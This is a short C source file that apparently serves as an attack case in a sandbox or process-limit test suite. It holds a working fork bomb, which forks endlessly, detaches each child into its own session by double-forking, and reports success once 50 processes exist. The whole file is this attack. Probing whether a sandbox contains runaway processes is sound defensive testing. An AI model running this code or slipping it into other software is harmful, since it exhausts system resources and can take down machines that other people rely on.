// Doubles itself for ever, each process in a session of its own and without its parent.
#include "attack.h"

#include <sys/mman.h>

int main(void) {
  int* processes = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  for (;;) {
    const pid_t child = fork();
    if (child == 0) {
      setsid();
      if (fork() > 0) _exit(0);
      if (__atomic_add_fetch(processes, 1, __ATOMIC_SEQ_CST) == 50)
        dprintf(1, "SUCCEEDED 50 processes\n");
    }
  }
}
